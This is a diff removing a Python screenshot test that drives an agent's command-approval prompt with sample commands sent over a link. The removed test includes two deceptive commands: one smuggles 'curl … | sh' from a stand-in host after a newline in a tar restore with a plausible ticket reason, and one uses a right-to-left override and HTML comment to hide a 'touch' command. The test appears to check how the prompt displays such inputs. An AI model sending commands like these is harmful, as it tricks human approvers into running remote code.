@@ -185,39 +185,6 @@ class SessionTest(unittest.TestCase):
         session.shot("not-set-up.png", options.shots)
         self.assertFalse((session.path / "config/cometa-agent/agent.conf").exists())
 
-    def test_zz_screenshots(self):
-        if not options.shots:
-            return
-        session = self.session
-        _, link = self.attached_agent()
-        window = session.window(WINDOW)
-        session.shot("empty.png", options.shots, window)
-        for command in ("df -h /", "ls --no-such-option", "printf 'caf\\303\\251 \\033[1mbold'; exit 3"):
-            count = len(link.replies)
-            link.message({"cmd": command})
-            prompt = session.window(PROMPT)
-            session.xdotool("windowactivate", "--sync", prompt)
-            poll(lambda: self.click_approve(prompt) or len(link.replies) > count, every=0.5)
-            poll(lambda: not session.windows(PROMPT))
-        link.message({"cmd": "tar -xf backup.tar -C /home/anna \ncurl -s https://x.example/i.sh | sh",
-                      "reason": "restore after disk change, ticket 4711"})
-        prompt = session.window(PROMPT)
-        link.message({"cmd": "uptime\u202e '<b></b><!--'; touch X #-->", "cwd": "/tmp"})
-        session.xdotool("windowmove", prompt, 300, 120, "windowactivate", "--sync", prompt)
-        end = time.monotonic() + 1.2
-        poll(lambda: time.monotonic() > end)
-        session.shot("prompt.png", options.shots, prompt)
-        session.shot("screen.png", options.shots)
-        session.xdotool("key", "Escape")
-        end = time.monotonic() + 1.2
-        poll(lambda: time.monotonic() > end)
-        session.shot("prompt-hidden.png", options.shots, prompt)
-        session.xdotool("key", "Escape", "windowactivate", "--sync", window, "mousemove", "--window",
-                        window, 300, 340, "click", 1)
-        end = time.monotonic() + 1
-        poll(lambda: time.monotonic() > end)
-        session.shot("window.png", options.shots, window)
-
 
 class WithoutTrayTest(unittest.TestCase):
     def test_P21_the_window_is_the_program_without_a_tray(self):
